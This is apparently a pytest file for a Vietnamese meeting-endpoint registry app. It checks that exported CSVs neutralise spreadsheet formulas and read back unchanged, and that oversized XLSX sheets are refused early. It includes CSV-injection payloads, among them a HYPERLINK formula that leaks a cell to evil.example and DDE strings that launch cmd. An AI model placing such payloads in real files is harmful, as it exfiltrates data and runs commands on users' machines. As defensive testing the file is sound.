"""Every CSV the app writes is inert in a spreadsheet program, and reads back as it was written."""

import csv
import io
import zipfile

import pytest
import sqlalchemy as sa

from tests.registry.hostile import MAIN, PKG_REL, REL, inline_row
from vmeeting.core import spreadsheet
from vmeeting.core.errors import ValidationError
from vmeeting.core.extensions import db
from vmeeting.registry import transfer
from vmeeting.registry.models import Endpoint

#: what spreadsheet programs run when a CSV cell starts with it (OWASP, "CSV Injection")
PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A2,"Bấm vào đây")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0",
            "-2+3", "\t=1+1", "\r=1+1", "'=1+1", "''@x"]


@pytest.mark.parametrize("value", PAYLOADS)
def test_formulas_are_neutralised_and_restored(value):
    written = spreadsheet.neutralise(value)
    assert written.startswith("'") and spreadsheet.restore(written) == value
    rows = list(csv.reader(io.StringIO(spreadsheet.csv_bytes(["a"], [[value]]).decode("utf-8-sig"), newline="")))
    assert rows == [["a"], [written]]


@pytest.mark.parametrize("value", ["UBND xã Hòa Bình", "'trích dẫn", "0912345678", "", "a=b", 42, -2, 1.5])
def test_other_values_pass_unchanged(value):
    assert spreadsheet.neutralise(value) == value
    if isinstance(value, str):
        assert spreadsheet.restore(value) == value


def test_the_endpoint_export_is_inert_and_round_trips(client, login_as, make_endpoint):
    endpoint = make_endpoint(PAYLOADS[0], code="LS-1", contact_name="-2+3", device_model="@SUM(A1)",
                             notes="+cmd|' /C calc'!A0\nDòng hai", platform_ref="=1+1")
    login_as("viewer")
    for columns in ("", "?columns=technical"):
        data = client.get(f"/endpoints/export.csv{columns}").get_data()
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
        assert all(not cell.startswith(spreadsheet.FORMULA_STARTS) for row in rows for cell in row), rows
        assert rows[1][1] == "'" + PAYLOADS[0]
        # Read back, the apostrophes come off: nothing changes.
        report = transfer.check_rows(transfer.read_rows("diem-cau.csv", data))
        assert report.is_valid and report.unchanged == 1, report.error_fields()
        assert report.rows[0].data["name"] == PAYLOADS[0]
    db.session.expire_all()
    assert db.session.get(Endpoint, endpoint.id).notes == "+cmd|' /C calc'!A0\nDòng hai"


def test_the_cli_export_is_inert_too(runner, tmp_path, make_endpoint):
    make_endpoint("=1+1", code="LS-1")
    path = tmp_path / "diem-cau.csv"
    assert runner.invoke(args=["endpoints", "export", str(path)]).exit_code == 0
    assert "'=1+1" in path.read_text("utf-8-sig")
    assert db.session.scalar(sa.select(sa.func.count()).select_from(Endpoint)) == 1


# -- which sheet the row count reads -----------------------------------------------------

#: a sheet without a dimension or row numbers, longer than the rows read: only counting its XML refuses it early
LONG_ROWS = b'<row><c t="inlineStr"><is><t>x</t></is></c></row>' * 21001
SHORT_ROWS = inline_row(1, ["code", "name"]) + inline_row(2, ["LS-1", "Một"])
CHARTSHEET = f'<chartsheet xmlns="{MAIN}"><sheetViews><sheetView workbookViewId="0"/></sheetViews></chartsheet>'


def _package(sheets, *, workbook="xl/workbook.xml"):
    """Return the bytes of a workbook written part by part, its sheets in the order given.

    sheets: [(relationship type, target as the workbook's rels write it, member, member's XML bytes)];
    the type is "worksheet" or "chartsheet"; `workbook` is the workbook part's member.
    """
    folder, name = workbook.rsplit("/", 1)
    worksheet_type = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
    types = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
             'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
             'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
             f'<Override PartName="/{workbook}" ContentType="application/vnd.openxmlformats-officedocument.'
             'spreadsheetml.sheet.main+xml"/>'
             + "".join(f'<Override PartName="/{member}" ContentType="{worksheet_type}"/>'
                       for kind, _target, member, _xml in sheets if kind == "worksheet") + "</Types>")
    rels = (f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG_REL}"><Relationship Id="rId1" '
            f'Type="{REL}/officeDocument" Target="{workbook}"/></Relationships>')
    book = (f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{MAIN}" xmlns:r="{REL}"><sheets>'
            + "".join(f'<sheet name="Trang {n}" sheetId="{n}" r:id="rId{n}"/>' for n in range(1, len(sheets) + 1))
            + "</sheets></workbook>")
    book_rels = (f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG_REL}">'
                 + "".join(f'<Relationship Id="rId{n}" Type="{REL}/{kind}" Target="{target}"/>'
                           for n, (kind, target, _member, _xml) in enumerate(sheets, start=1))
                 + "</Relationships>")
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", types)
        archive.writestr("_rels/.rels", rels)
        archive.writestr(workbook, book)
        archive.writestr(f"{folder}/_rels/{name}.rels", book_rels)
        for kind, _target, member, xml in sheets:
            archive.writestr(member, xml)
            if kind == "chartsheet":  # openpyxl reads a chart sheet only with its relationships part
                where, sheet = member.rsplit("/", 1)
                archive.writestr(f"{where}/_rels/{sheet}.rels", f'<Relationships xmlns="{PKG_REL}"/>')
    return out.getvalue()


def _sheet(rows):
    return f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{MAIN}"><sheetData>'.encode() + rows + (
        b"</sheetData></worksheet>")


def _refusal(data):
    with pytest.raises(ValidationError) as refused:
        for _row in spreadsheet.xlsx_rows(data):
            pass
    return refused.value.fields["file"]


#: the refusal of the row count, before openpyxl reads a row (the rows read one by one stop at "dòng 21001")
COUNTED = "Trang tính có hơn 21000 dòng"


@pytest.mark.parametrize("sheets, workbook", [
    # the workbook's first sheet stored as sheet2.xml, the second as sheet1.xml
    ([("worksheet", "worksheets/sheet2.xml", "xl/worksheets/sheet2.xml", _sheet(LONG_ROWS)),
      ("worksheet", "worksheets/sheet1.xml", "xl/worksheets/sheet1.xml", _sheet(SHORT_ROWS))], "xl/workbook.xml"),
    # a chart sheet first: openpyxl's worksheets[0] is the sheet after it
    ([("chartsheet", "chartsheets/sheet1.xml", "xl/chartsheets/sheet1.xml", CHARTSHEET),
      ("worksheet", "worksheets/sheet1.xml", "xl/worksheets/sheet1.xml", _sheet(LONG_ROWS))], "xl/workbook.xml"),
    # the workbook part elsewhere, named by the content types, its sheet's target absolute
    ([("worksheet", "/data/rows.xml", "data/rows.xml", _sheet(LONG_ROWS))], "main/book.xml"),
    # a relative target that climbs out of the workbook's folder
    ([("worksheet", "../sheets/a.xml", "sheets/a.xml", _sheet(LONG_ROWS))], "xl/workbook.xml"),
])
def test_the_rows_of_the_sheet_openpyxl_reads_are_counted_before_it_reads_them(sheets, workbook):
    assert COUNTED in _refusal(_package(sheets, workbook=workbook))


def test_a_long_second_sheet_is_not_the_first_ones_count():
    """Only the first worksheet is read: a long one after it is neither counted nor refused."""
    data = _package([("worksheet", "worksheets/sheet2.xml", "xl/worksheets/sheet2.xml", _sheet(SHORT_ROWS)),
                     ("worksheet", "worksheets/sheet1.xml", "xl/worksheets/sheet1.xml", _sheet(LONG_ROWS))])
    rows = [[cell.value for cell in cells[:2]] for _number, cells in spreadsheet.xlsx_rows(data)]
    assert rows == [["code", "name"], ["LS-1", "Một"]]


def test_a_workbook_typed_by_the_default_content_type_is_counted_too():
    """Some programs give .xml parts the workbook's type by default and name no workbook part: xl/workbook.xml."""
    data = _package([("worksheet", "worksheets/sheet1.xml", "xl/worksheets/sheet1.xml", _sheet(LONG_ROWS))])
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    main_type = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    types = parts["[Content_Types].xml"].replace(b'<Override PartName="/xl/workbook.xml" ContentType="'
                                                 + main_type + b'"/>', b"")
    parts["[Content_Types].xml"] = types.replace(b'ContentType="application/xml"', b'ContentType="' + main_type + b'"')
    assert parts["[Content_Types].xml"].count(main_type) == 1
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    assert COUNTED in _refusal(out.getvalue())
